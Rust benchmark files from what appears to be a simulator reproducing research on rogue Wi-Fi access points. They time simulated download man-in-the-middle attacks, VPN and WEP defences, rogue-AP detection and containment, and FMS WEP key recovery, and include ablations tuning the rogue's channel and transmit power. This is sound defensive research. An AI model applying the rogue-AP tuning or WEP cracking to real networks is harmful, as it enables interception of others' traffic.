/// `{ns, count}` rows plus the measured probe overhead (the acceptance
/// budget is overhead_permille ≤ 20, i.e. ≤ 2 % of dispatch time).
///
/// Sharded runs also carry `per_shard` — one row set per queue shard,
/// covering the work whose owning shard is known. All `ns` figures are
/// *cumulative worker time*: on a multi-thread pool the `deliver`,
/// `poll` and `medium_plan` rows sum time across rayon workers and can
/// exceed the run's wall clock. `exec_wall` is the exception — it is
/// wall time of the parallel exec regions measured from the
/// coordinating thread, so `exec_wall / (deliver + poll + medium_plan)`
/// reads directly as parallel efficiency (1.0 = no speedup, 1/N =
/// perfect N-way). EXPERIMENTS.md walks through a recorded example.
fn profile_json(p: &rogue_sim::profile::Snapshot) -> String {
    let row_set = |rows: &[(&'static str, u64, u64)]| -> String {
        rows.iter()
            .map(|(label, ns, count)| format!("\"{label}\": {{\"ns\": {ns}, \"count\": {count}}}"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let per_shard = p
        .per_shard
        .iter()
        .enumerate()
        .map(|(s, rows)| format!("\"shard{s}\": {{{}}}", row_set(rows)))
        .collect::<Vec<_>>()
        .join(", ");
    format!(
        concat!(
            "{{\"phases\": {{{}}}, \"kinds\": {{{}}}, \"per_shard\": {{{}}}, ",
            "\"overhead_ns\": {}, \"dispatch_ns\": {}, \"overhead_permille\": {}}}"
        ),
        row_set(&p.phases),
        row_set(&p.kinds),
        per_shard,
        p.overhead_ns,
        p.dispatch_ns,
        p.overhead_permille(),
    )
}

fn write_json(path: &std::path::Path, radios: usize, horizon_ms: u64, modes: &[Mode]) {
    let serial_eps = modes[0].events_per_sec;
    let rows: Vec<String> = modes
        .iter()
        .map(|m| {
            format!(
                concat!(
                    "    {{\"mode\": \"{}\", \"shards\": {}, \"events\": {}, ",
                    "\"elapsed_s\": {:.3}, \"events_per_sec\": {:.0}, ",
                    "\"speedup_vs_serial\": {:.2}, \"bit_identical\": true,\n",
                    "     \"profile\": {}}}"
                ),
                m.label,
                m.shards,
                m.events,
                m.elapsed_s,
                m.events_per_sec,
                m.events_per_sec / serial_eps,
                profile_json(&m.profile),
            )
        })
        .collect();
    let json = format!(
        concat!(
            "{{\n  \"bench\": \"city_scale\",\n",
            "  \"radios\": {},\n  \"pitch_m\": {},\n",
            "  \"sim_horizon_ms\": {},\n  \"host_threads\": {},\n",
            "  \"host_cpus\": {},\n",
            "  \"results\": [\n{}\n  ]\n}}\n"
        ),
        radios,
        PITCH_M,
        horizon_ms,
        rayon::current_num_threads(),
        std::thread::available_parallelism().map_or(1, |n| n.get()),
        rows.join(",\n")
    );
    std::fs::write(path, json).expect("write BENCH_city_scale.json");
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    // 317^2 = 100,489 radios (~4k APs) for the real run — the first
    // half-second of a city powering on, the densest join wave the
    // world model produces. The smoke sweep keeps the same shape at
    // 45^2 = 2,025 radios.
    let (side, horizon_ms) = if smoke { (45, 600) } else { (317, 500) };
    // Calibration overrides for sizing runs on slow hosts.
    let side = std::env::var("CITY_SIDE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(side);
    let horizon_ms = std::env::var("CITY_HORIZON_MS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(horizon_ms);
    let horizon = SimTime::from_millis(horizon_ms);
    let radios = side * side;
    let seed = Seed(0xC17);

    println!("city_scale ({radios} radios, {PITCH_M} m pitch, {horizon_ms} ms simulated)");
    let serial = run(side, 1, horizon, seed);
    println!(
        "  {:<11} {:>9} events in {:>6.2}s   {:>10.0} events/s",
        serial.label, serial.events, serial.elapsed_s, serial.events_per_sec
    );
    for &(label, ns, count) in serial.profile.phases.iter().chain(&serial.profile.kinds) {
        if count > 0 {
            println!(
                "    {label:<22} {:>9.3} ms  ({count} spans)",
                ns as f64 / 1e6
            );
        }
    }
    println!(
        "    profiler overhead: {} ‰ of dispatch time (budget ≤ 20 ‰)",
        serial.profile.overhead_permille()
    );

    let mut modes = vec![serial];
    let shard_counts: &[usize] = &[2, 8];
    for &shards in shard_counts {
        let m = run(side, shards, horizon, seed);
        // The gate: no number is reported unless the sharded trace is
        // byte-for-byte the serial trace.
        assert_eq!(
            m.fingerprint, modes[0].fingerprint,
            "shards={shards} diverged from serial — sharding must be bit-identical"
        );
        assert_eq!(m.events, modes[0].events, "event counts diverged");
        println!(
            "  {:<11} {:>9} events in {:>6.2}s   {:>10.0} events/s   {:.2}x vs serial (bit-identical; {} windows, {} plans parallel, {} stale)",
            m.label,
            m.events,
            m.elapsed_s,
            m.events_per_sec,
            m.events_per_sec / modes[0].events_per_sec,
            m.windows,
            m.plans_parallel,
            m.plans_stale,
        );
        modes.push(m);
    }

    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../BENCH_city_scale.json");
    write_json(&path, radios, horizon_ms, &modes);
    println!("wrote {}", path.display());
}
