//! E7 bench — the defence matrix: times one policy-cell replication and
//! prints the matrix once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_core::experiments::e7_matrix::scenario_for;
use rogue_core::policy::ClientPolicy;
use rogue_sim::Seed;

fn bench(c: &mut Criterion) {
    println!("\nE7: defence matrix\n{}\n", rogue_bench::report_e7(2).body);
    let mut g = c.benchmark_group("e7_defense_matrix");
    g.sample_size(10);
    for policy in [
        ClientPolicy::WepMacFilter,
        ClientPolicy::VpnAll(rogue_vpn::Transport::Udp),
    ] {
        let cfg = DownloadMitmConfig {
            scenario: scenario_for(policy),
            ..DownloadMitmConfig::paper()
        };
        let mut seed = 0u64;
        g.bench_function(
            format!("matrix_cell_{}", policy.label().replace(' ', "_")),
            |b| {
                b.iter(|| {
                    seed += 1;
                    run_download_mitm(&cfg, Seed(seed))
                })
            },
        );
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
