//! E8 bench — the hostile hotspot: times one browse-session replication
//! and prints the §5.1 comparison once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e8_hotspot::run_hotspot_once;
use rogue_core::scenario::HotspotScenarioCfg;
use rogue_sim::Seed;

fn bench(c: &mut Criterion) {
    println!(
        "\nE8: hostile hotspot (§1.2.2 / §5.1)\n{}\n",
        rogue_bench::report_e8(3).body
    );
    let cfg = HotspotScenarioCfg::cnn_scenario();
    let mut g = c.benchmark_group("e8_hotspot");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("sec51_cnn_scenario_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_hotspot_once(&cfg, 4, Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
