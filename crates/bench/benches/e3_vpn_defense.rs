//! E3 bench — Figure 3: times one VPN-protected download replication and
//! prints the defence comparison once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e3_vpn::{run_vpn_defense, VpnMode};
use rogue_sim::Seed;

fn bench(c: &mut Criterion) {
    println!(
        "\nE3: Figure 3 / §5 — VPN-everything defence\n{}\n",
        rogue_bench::report_e3(3).body
    );
    let mut g = c.benchmark_group("e3_vpn_defense");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("fig3_vpn_protected_download", |b| {
        b.iter(|| {
            seed += 1;
            run_vpn_defense(VpnMode::Udp, Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
