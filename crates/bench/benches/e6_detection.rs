//! E6 bench — §2.3: times one sweep-and-detect replication and prints
//! the detection table once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e6_detection::run_detection_once;
use rogue_sim::{Seed, SimDuration, SimTime};

fn bench(c: &mut Criterion) {
    println!(
        "\nE6: §2.3 — rogue-AP detection\n{}\n",
        rogue_bench::report_e6(2).body
    );
    let mut g = c.benchmark_group("e6_detection");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("sec23_sweep_detect_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_detection_once(
                SimDuration::from_millis(250),
                SimTime::from_secs(15),
                Seed(seed),
            )
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
