//! phy_zero_copy — frames/sec and bytes-copied through the delivery path.
//!
//! Dense-monitor topology (the E10 WIDS deployment shape): one
//! transmitter streams back-to-back data frames while 1 / 3 / 8
//! monitor-mode sniffers on the same channel capture every delivery.
//! Two figures per sweep point:
//!
//! * **frames/sec** — wall-clock throughput of `begin_tx` →
//!   `complete_tx` → per-monitor `Sniffer::on_receive` (decode+capture).
//! * **bytes copied / frame** — payload bytes that landed in a *fresh*
//!   allocation instead of a refcounted view of the transmit buffer,
//!   detected by pointer containment of each capture's payload within
//!   the transmitted `Bytes` allocation.
//!
//! Results (plus the committed pre-refactor baseline) are written to
//! `BENCH_phy_zero_copy.json` at the workspace root so CI can archive
//! the perf trajectory per PR. `-- --test` runs a shortened smoke
//! sweep; the JSON is written either way.

use std::time::Instant;

use bytes::Bytes;
use criterion::black_box;
use rogue_dot11::frame::{Frame, FrameBody};
use rogue_dot11::monitor::Sniffer;
use rogue_dot11::MacAddr;
use rogue_phy::{Bitrate, Medium, MediumParams, Pos};
use rogue_sim::{Seed, SimTime};

/// Data payload per frame (LLC + app bytes — a small data frame, the
/// dense-traffic shape a WIDS deployment actually chews through).
const PAYLOAD_LEN: usize = 256;

/// Monitor counts swept (the dense-monitor E10 axis).
const MONITORS: [usize; 3] = [1, 3, 8];

/// Pre-refactor baseline, measured on this machine at the commit that
/// introduced this bench (before zero-copy delivery + tx pruning):
/// (monitors, frames_per_sec, bytes_copied_per_frame).
const BASELINE: [(usize, f64, f64); 3] = [
    (1, 590882.0, 256.0),
    (3, 243569.0, 768.0),
    (8, 94430.0, 2048.0),
];

struct Sweep {
    monitors: usize,
    frames_per_sec: f64,
    bytes_copied_per_frame: f64,
    deliveries: u64,
}

/// One timed run: `frames` back-to-back data frames through a medium
/// with `monitors` same-channel sniffers 10 m out. Returns (elapsed
/// seconds, deliveries, payload bytes copied).
fn run(monitors: usize, frames: usize) -> (f64, u64, u64) {
    let mut m = Medium::new(MediumParams::default(), Seed(42));
    let tx = m.add_radio(Pos::new(0.0, 0.0), 6, 15.0);
    for i in 0..monitors {
        // A ring of sniffers around the transmitter.
        let ang = i as f64 / monitors as f64 * std::f64::consts::TAU;
        m.add_radio(Pos::new(10.0 * ang.cos(), 10.0 * ang.sin()), 6, 15.0);
    }
    let mut sniffers: Vec<Sniffer> = (0..monitors).map(|_| Sniffer::new()).collect();

    let frame_bytes = Frame::new(
        MacAddr::BROADCAST,
        MacAddr::local(1),
        MacAddr::local(1),
        FrameBody::Data {
            payload: Bytes::from(vec![0xA5u8; PAYLOAD_LEN]),
        },
    )
    .encode();
    let tx_base = frame_bytes.as_ptr() as usize;
    let tx_range = tx_base..tx_base + frame_bytes.len();

    let start = Instant::now();
    let mut t = SimTime::ZERO;
    let mut deliveries = 0u64;
    for _ in 0..frames {
        let (h, end) = m.begin_tx(t, tx, frame_bytes.clone(), Bitrate::B11);
        for d in m.complete_tx(end, h) {
            let idx = d.to.0 as usize - 1;
            sniffers[idx].on_receive(end, &d.bytes, d.rssi_dbm, d.channel);
            deliveries += 1;
        }
        t = end;
    }
    let elapsed = start.elapsed().as_secs_f64();

    // Copy audit: a capture payload that does not point into the
    // transmit allocation was copied on the way in.
    let mut copied = 0u64;
    for s in &sniffers {
        for c in &s.captures {
            if let FrameBody::Data { payload } = &c.frame.body {
                let p = payload.as_ptr() as usize;
                if !tx_range.contains(&p) {
                    copied += payload.len() as u64;
                }
            }
        }
    }
    black_box(&sniffers);
    (elapsed, deliveries, copied)
}

fn sweep(frames: usize, reps: usize) -> Vec<Sweep> {
    MONITORS
        .iter()
        .map(|&monitors| {
            let mut best = f64::INFINITY;
            let mut deliveries = 0;
            let mut copied = 0;
            for _ in 0..reps {
                let (elapsed, d, c) = run(monitors, frames);
                best = best.min(elapsed);
                deliveries = d;
                copied = c;
            }
            Sweep {
                monitors,
                frames_per_sec: frames as f64 / best,
                bytes_copied_per_frame: copied as f64 / frames as f64,
                deliveries,
            }
        })
        .collect()
}

fn write_json(path: &std::path::Path, frames: usize, results: &[Sweep]) {
    let mut rows = Vec::new();
    for s in results {
        let (_, base_fps, base_copied) = BASELINE
            .iter()
            .find(|(m, _, _)| *m == s.monitors)
            .copied()
            .unwrap_or((s.monitors, 0.0, 0.0));
        let speedup = if base_fps > 0.0 {
            s.frames_per_sec / base_fps
        } else {
            0.0
        };
        rows.push(format!(
            concat!(
                "    {{\"monitors\": {}, \"frames_per_sec\": {:.0}, ",
                "\"bytes_copied_per_frame\": {:.1}, \"deliveries\": {}, ",
                "\"baseline_frames_per_sec\": {:.0}, ",
                "\"baseline_bytes_copied_per_frame\": {:.1}, ",
                "\"speedup\": {:.2}}}"
            ),
            s.monitors,
            s.frames_per_sec,
            s.bytes_copied_per_frame,
            s.deliveries,
            base_fps,
            base_copied,
            speedup,
        ));
    }
    let json = format!(
        concat!(
            "{{\n  \"bench\": \"phy_zero_copy\",\n",
            "  \"payload_len\": {},\n  \"frames_per_run\": {},\n",
            "  \"results\": [\n{}\n  ]\n}}\n"
        ),
        PAYLOAD_LEN,
        frames,
        rows.join(",\n")
    );
    std::fs::write(path, json).expect("write BENCH_phy_zero_copy.json");
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    let (frames, reps) = if smoke { (500, 2) } else { (4000, 5) };

    let results = sweep(frames, reps);
    println!("phy_zero_copy ({PAYLOAD_LEN}-byte payloads, {frames} frames/run)");
    for s in &results {
        println!(
            "  monitors={}  {:>10.0} frames/s   {:>7.1} bytes copied/frame   {} deliveries",
            s.monitors, s.frames_per_sec, s.bytes_copied_per_frame, s.deliveries
        );
    }

    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../BENCH_phy_zero_copy.json");
    write_json(&path, frames, &results);
    println!("wrote {}", path.display());
}
