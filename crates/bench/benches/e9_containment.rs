//! E9 bench — detect-then-contain: times one closed-loop replication and
//! prints the comparison once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e9_containment::run_containment_once;
use rogue_sim::{Seed, SimDuration};

fn bench(c: &mut Criterion) {
    println!(
        "\nE9: detect-then-contain (future work)\n{}\n",
        rogue_bench::report_e9(2).body
    );
    let mut g = c.benchmark_group("e9_containment");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("detect_then_contain_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_containment_once(true, SimDuration::from_millis(200), Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
