//! Ablations over the attacker's design choices — the knobs the paper's
//! Figure 1 fixes without comment, measured:
//!
//! * **Rogue channel** — the paper puts the rogue on channel 6 while the
//!   valid AP sits on 1. Co-channel and adjacent-channel placements make
//!   the rogue's own uplink fight its victims for air.
//! * **Rogue transmit power** — the attack's only analogue knob.
//! * **Deauth flood period** — how hard the forced roam needs to push.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_core::report::{pct, Table};
use rogue_core::scenario::{CorpScenarioCfg, RogueCfg};
use rogue_sim::Seed;

fn channel_ablation() -> String {
    let mut t = Table::new(&["rogue channel", "note", "attack success"]);
    for (ch, note) in [
        (1u8, "co-channel with valid AP"),
        (2, "adjacent"),
        (4, "partial overlap"),
        (6, "non-overlapping (paper)"),
        (11, "non-overlapping, far"),
    ] {
        let reps = 5;
        let ok = (0..reps)
            .filter(|&rep| {
                let mut cfg = CorpScenarioCfg::paper_attack();
                cfg.rogue = Some(RogueCfg {
                    channel: ch,
                    ..RogueCfg::default()
                });
                let r = run_download_mitm(
                    &DownloadMitmConfig {
                        scenario: cfg,
                        ..DownloadMitmConfig::paper()
                    },
                    Seed(0xAB1 + ch as u64 * 100 + rep),
                );
                r.victim_got_trojan && r.md5_check_passed
            })
            .count();
        t.row(&[
            ch.to_string(),
            note.to_string(),
            pct(ok as f64 / reps as f64),
        ]);
    }
    t.render()
}

fn power_ablation() -> String {
    let mut t = Table::new(&["rogue tx dBm", "attack success"]);
    for p in [-5.0f64, 5.0, 18.0] {
        let reps = 5;
        let ok = (0..reps)
            .filter(|&rep| {
                let mut cfg = CorpScenarioCfg::paper_attack();
                cfg.shadowing_sigma_db = 6.0;
                cfg.rogue = Some(RogueCfg {
                    tx_power_dbm: p,
                    ..RogueCfg::default()
                });
                let r = run_download_mitm(
                    &DownloadMitmConfig {
                        scenario: cfg,
                        ..DownloadMitmConfig::paper()
                    },
                    Seed((0xAB2 + (p as i64 as u64)) << 8 | rep),
                );
                r.victim_got_trojan && r.md5_check_passed
            })
            .count();
        t.row(&[format!("{p:+.0}"), pct(ok as f64 / reps as f64)]);
    }
    t.render()
}

fn bench(c: &mut Criterion) {
    println!(
        "\n== Ablation: rogue channel choice ==\n{}",
        channel_ablation()
    );
    println!(
        "== Ablation: rogue power (6 dB shadowing) ==\n{}",
        power_ablation()
    );

    // Benchmark the co-channel worst case vs the paper's choice, to pin
    // the cost of collision churn in the medium.
    let mut g = c.benchmark_group("ablation_channel");
    g.sample_size(10);
    for ch in [1u8, 6] {
        let mut cfg = CorpScenarioCfg::paper_attack();
        cfg.rogue = Some(RogueCfg {
            channel: ch,
            ..RogueCfg::default()
        });
        let dcfg = DownloadMitmConfig {
            scenario: cfg,
            ..DownloadMitmConfig::paper()
        };
        let mut seed = 0u64;
        g.bench_function(format!("attack_on_channel_{ch}"), |b| {
            b.iter(|| {
                seed += 1;
                run_download_mitm(&dcfg, Seed(seed))
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
