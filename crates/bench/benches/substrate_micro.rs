//! Substrate microbenches: the from-scratch crypto, the TCP stack, the
//! radio medium and the event queue — the pieces whose throughput
//! bounds how fast the experiments run.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rogue_crypto::chacha20::ChaCha20;
use rogue_crypto::wep::{open, seal, WepKey};
use rogue_crypto::{crc32, md5, sha1, Rc4};
use rogue_netstack::tcp::{flags, TcpSegment};
use rogue_netstack::Ipv4Addr;
use rogue_sim::{EventQueue, Seed, SimRng, SimTime};

fn crypto(c: &mut Criterion) {
    let data = vec![0xA5u8; 1500];
    let mut g = c.benchmark_group("crypto_1500B");
    g.throughput(Throughput::Bytes(1500));
    g.bench_function("rc4", |b| b.iter(|| Rc4::process(b"SECRET", &data)));
    g.bench_function("crc32", |b| b.iter(|| crc32(&data)));
    g.bench_function("md5", |b| b.iter(|| md5(&data)));
    g.bench_function("sha1", |b| b.iter(|| sha1(&data)));
    g.bench_function("chacha20", |b| {
        let key = [7u8; 32];
        let nonce = [9u8; 12];
        b.iter(|| ChaCha20::process(&key, &nonce, 0, &data))
    });
    let key = WepKey::new(b"AB#12");
    g.bench_function("wep_seal", |b| b.iter(|| seal(&key, [1, 2, 3], 0, &data)));
    let sealed = seal(&key, [1, 2, 3], 0, &data);
    g.bench_function("wep_open", |b| b.iter(|| open(&key, &sealed).unwrap()));
    g.finish();
}

fn dh(c: &mut Criterion) {
    use rogue_crypto::dh::DhKeyPair;
    let mut g = c.benchmark_group("dh_1024");
    g.sample_size(20);
    g.bench_function("keypair_generate", |b| {
        b.iter(|| DhKeyPair::generate(&[0x42u8; 32]))
    });
    let a = DhKeyPair::generate(&[1u8; 32]);
    let bkp = DhKeyPair::generate(&[2u8; 32]);
    g.bench_function("agree", |b| b.iter(|| a.agree(&bkp.public).unwrap()));
    g.finish();
}

fn tcp_codec(c: &mut Criterion) {
    let src = Ipv4Addr::new(10, 0, 0, 1);
    let dst = Ipv4Addr::new(10, 0, 0, 2);
    let seg = TcpSegment {
        src_port: 1,
        dst_port: 80,
        seq: 1,
        ack: 2,
        flags: flags::ACK | flags::PSH,
        window: 65535,
        payload: bytes::Bytes::from(vec![0u8; 1400]),
    };
    let wire = seg.encode(src, dst);
    let mut g = c.benchmark_group("tcp_codec_1400B");
    g.throughput(Throughput::Bytes(1400));
    g.bench_function("encode", |b| b.iter(|| seg.encode(src, dst)));
    g.bench_function("decode", |b| {
        b.iter(|| TcpSegment::decode(src, dst, &wire).unwrap())
    });
    g.finish();
}

fn event_queue(c: &mut Criterion) {
    let mut g = c.benchmark_group("sim_kernel");
    g.bench_function("event_queue_push_pop_1k", |b| {
        b.iter(|| {
            let mut q = EventQueue::new();
            for i in 0..1000u64 {
                q.schedule(SimTime(i * 1000), i);
            }
            let mut acc = 0u64;
            while let Some((_, e)) = q.pop() {
                acc = acc.wrapping_add(e);
            }
            acc
        })
    });
    g.bench_function("xoshiro_1k_draws", |b| {
        let mut rng = SimRng::new(Seed(1));
        b.iter(|| {
            let mut acc = 0u64;
            for _ in 0..1000 {
                acc = acc.wrapping_add(rng.next_u64());
            }
            acc
        })
    });
    g.finish();
}

fn fms_votes(c: &mut Criterion) {
    use rogue_crypto::fms::{targeted_weak_ivs, KeyRecovery, Sample};
    use rogue_crypto::rc4::Rc4;
    let key = b"AB#12";
    let mut kr = KeyRecovery::new();
    for iv in targeted_weak_ivs(5, 240) {
        let mut k = iv.to_vec();
        k.extend_from_slice(key);
        kr.absorb(Sample {
            iv,
            ks0: Rc4::new(&k).next_byte(),
        });
    }
    let mut g = c.benchmark_group("fms");
    g.bench_function("crack_wep40_1200_samples", |b| b.iter(|| kr.crack(5)));
    g.finish();
}

criterion_group!(benches, crypto, dh, tcp_codec, event_queue, fms_votes);
criterion_main!(benches);
