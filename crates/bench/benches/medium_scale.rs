//! medium_scale — medium throughput as the radio registry grows.
//!
//! Campus-floor topology: `R` radios on a uniform grid (30 m spacing,
//! channels round-robin over the non-overlapping {1, 6, 11} set), with 16
//! transmitter stations spread evenly across the floor streaming
//! back-to-back 256-byte data frames. This is the shape the dense-hotspot
//! scenarios (E8, and site-scale WIDS coverage) converge to: thousands of
//! registered radios, of which only the ones within decode range of a
//! given transmitter can possibly hear a frame.
//!
//! Figures per sweep point:
//!
//! * **frames/sec** and **ns/frame** — wall-clock cost of one
//!   `begin_tx` → `channel_busy` → `complete_tx` cycle. Sub-linear
//!   ns/frame growth vs. radio count is the point of the spatial cull.
//! * **power-map entries/tx** — `(radio, dBm)` pairs retained per
//!   transmission: O(R) for the dense pre-change medium, O(audible)
//!   after the sparse cull.
//!
//! Results (plus the committed pre-change baseline) are written to
//! `BENCH_medium_scale.json` at the workspace root so CI can archive the
//! perf trajectory per PR. `-- --test` runs a shortened smoke sweep; the
//! JSON is written either way.

use std::time::Instant;

use bytes::Bytes;
use criterion::black_box;
use rogue_phy::{Bitrate, Medium, MediumParams, Pos};
use rogue_sim::{Seed, SimTime};

/// Payload bytes per frame (a small data frame).
const PAYLOAD_LEN: usize = 256;

/// Grid spacing in metres. At 15 dBm / default propagation the decode
/// horizon is ~200 m, so each transmitter can reach a bounded
/// neighbourhood (~140 radios) regardless of how big the floor grows.
const SPACING_M: f64 = 30.0;

/// Transmitters streaming concurrently, spread evenly over the floor.
const SOURCES: usize = 16;

/// Radio counts swept.
const RADIOS: [usize; 4] = [50, 200, 1000, 5000];

/// Pre-change baseline, measured on this machine at the commit that
/// introduced this bench (dense O(R) power maps, linear tx lookup):
/// (radios, frames_per_sec, power_map_entries_per_tx).
const BASELINE: [(usize, f64, f64); 4] = [
    (50, 1093102.0, 50.0),
    (200, 295698.0, 200.0),
    (1000, 58784.0, 1000.0),
    (5000, 11740.0, 5000.0),
];

struct Sweep {
    radios: usize,
    frames_per_sec: f64,
    ns_per_frame: f64,
    deliveries: u64,
    power_map_entries_per_tx: f64,
}

/// Build the campus grid: `radios` radios at `SPACING_M` pitch, channels
/// round-robin over {1, 6, 11}.
fn build(radios: usize) -> (Medium, Vec<rogue_phy::RadioId>) {
    let mut m = Medium::new(MediumParams::default(), Seed(42));
    let side = (radios as f64).sqrt().ceil() as usize;
    let mut ids = Vec::with_capacity(radios);
    for i in 0..radios {
        let (gx, gy) = (i % side, i / side);
        let pos = Pos::new(gx as f64 * SPACING_M, gy as f64 * SPACING_M);
        let channel = [1u8, 6, 11][i % 3];
        ids.push(m.add_radio(pos, channel, 15.0));
    }
    (m, ids)
}

/// One timed run: `frames` back-to-back data frames from `SOURCES`
/// rotating transmitters. Returns (elapsed seconds, deliveries,
/// power-map entries per tx).
fn run(radios: usize, frames: usize) -> (f64, u64, f64) {
    let (mut m, ids) = build(radios);
    let sources: Vec<_> = (0..SOURCES.min(radios))
        .map(|s| ids[s * radios / SOURCES.min(radios)])
        .collect();
    let payload = Bytes::from(vec![0xA5u8; PAYLOAD_LEN]);

    let mut entries = 0u64;
    let mut entry_samples = 0u64;
    let start = Instant::now();
    let mut t = SimTime::ZERO;
    let mut deliveries = 0u64;
    for i in 0..frames {
        let src = sources[i % sources.len()];
        let busy = m.channel_busy(t, src);
        black_box(busy);
        let (h, end) = m.begin_tx(t, src, payload.clone(), Bitrate::B11);
        if m.tx_backlog() > 0 {
            entries += m.power_map_entries() as u64 / m.tx_backlog() as u64;
            entry_samples += 1;
        }
        deliveries += m.complete_tx(end, h).len() as u64;
        t = end;
    }
    let elapsed = start.elapsed().as_secs_f64();
    black_box(&m);
    (
        elapsed,
        deliveries,
        entries as f64 / entry_samples.max(1) as f64,
    )
}

fn sweep(frames: usize, reps: usize) -> Vec<Sweep> {
    RADIOS
        .iter()
        .map(|&radios| {
            let mut best = f64::INFINITY;
            let mut deliveries = 0;
            let mut entries = 0.0;
            for _ in 0..reps {
                let (elapsed, d, e) = run(radios, frames);
                best = best.min(elapsed);
                deliveries = d;
                entries = e;
            }
            Sweep {
                radios,
                frames_per_sec: frames as f64 / best,
                ns_per_frame: best * 1e9 / frames as f64,
                deliveries,
                power_map_entries_per_tx: entries,
            }
        })
        .collect()
}

fn write_json(path: &std::path::Path, frames: usize, results: &[Sweep]) {
    let mut rows = Vec::new();
    for s in results {
        let (_, base_fps, base_entries) = BASELINE
            .iter()
            .find(|(r, _, _)| *r == s.radios)
            .copied()
            .unwrap_or((s.radios, 0.0, 0.0));
        let speedup = if base_fps > 0.0 {
            s.frames_per_sec / base_fps
        } else {
            0.0
        };
        rows.push(format!(
            concat!(
                "    {{\"radios\": {}, \"frames_per_sec\": {:.0}, ",
                "\"ns_per_frame\": {:.0}, \"deliveries\": {}, ",
                "\"power_map_entries_per_tx\": {:.1}, ",
                "\"baseline_frames_per_sec\": {:.0}, ",
                "\"baseline_power_map_entries_per_tx\": {:.1}, ",
                "\"speedup\": {:.2}}}"
            ),
            s.radios,
            s.frames_per_sec,
            s.ns_per_frame,
            s.deliveries,
            s.power_map_entries_per_tx,
            base_fps,
            base_entries,
            speedup,
        ));
    }
    let json = format!(
        concat!(
            "{{\n  \"bench\": \"medium_scale\",\n",
            "  \"payload_len\": {},\n  \"spacing_m\": {},\n",
            "  \"sources\": {},\n  \"frames_per_run\": {},\n",
            "  \"results\": [\n{}\n  ]\n}}\n"
        ),
        PAYLOAD_LEN,
        SPACING_M,
        SOURCES,
        frames,
        rows.join(",\n")
    );
    std::fs::write(path, json).expect("write BENCH_medium_scale.json");
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    let (frames, reps) = if smoke { (500, 2) } else { (4000, 4) };

    let results = sweep(frames, reps);
    println!("medium_scale ({PAYLOAD_LEN}-byte payloads, {frames} frames/run, {SOURCES} sources)");
    for s in &results {
        println!(
            "  radios={:<5} {:>10.0} frames/s   {:>9.0} ns/frame   {:>8.1} power-map entries/tx   {} deliveries",
            s.radios, s.frames_per_sec, s.ns_per_frame, s.power_map_entries_per_tx, s.deliveries
        );
    }

    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../BENCH_medium_scale.json");
    write_json(&path, frames, &results);
    println!("wrote {}", path.display());
}
