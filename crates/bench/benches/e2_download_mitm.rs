//! E2 bench — Figure 2: times one full download-MITM replication and
//! prints the boundary-miss table once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_sim::Seed;

fn bench(c: &mut Criterion) {
    println!(
        "\nE2: Figure 2 / §4.1 — software-download MITM\n{}\n",
        rogue_bench::report_e2(4).body
    );
    let cfg = DownloadMitmConfig::paper();
    let mut g = c.benchmark_group("e2_download_mitm");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("fig2_full_attack_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_download_mitm(&cfg, Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
