//! `harness` — regenerate every table of the reproduction.
//!
//! ```text
//! cargo run --release -p rogue-bench --bin harness [reps]
//! ```
//!
//! Prints the E1–E10 tables recorded in EXPERIMENTS.md. `reps` (default 5)
//! controls Monte-Carlo replications per cell.
//!
//! Tables go to **stdout** and are bit-deterministic for a given `reps`
//! (regardless of thread count — see DESIGN.md §9); wall-clock timing and
//! the thread count go to **stderr**, so `harness 10 > harness_output.txt`
//! captures a byte-stable record. Parallelism is controlled by
//! `RAYON_NUM_THREADS`.
//!
//! The ten reports build concurrently on the rayon pool — each is a pure
//! function of `reps`, and the pool collects results in input order — then
//! print serially, so stdout is byte-identical to a one-at-a-time run.

use std::time::Instant;

use rayon::prelude::*;

fn main() {
    let reps: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(5);
    println!("Countering Rogues in Wireless Networks — reproduction harness");
    println!("replications per cell: {reps}\n");
    eprintln!("threads: {}", rayon::current_num_threads());
    let t0 = Instant::now();
    let reports: Vec<_> = rogue_bench::report_builders()
        .into_par_iter()
        .map(|build| {
            let r0 = Instant::now();
            let report = build(reps);
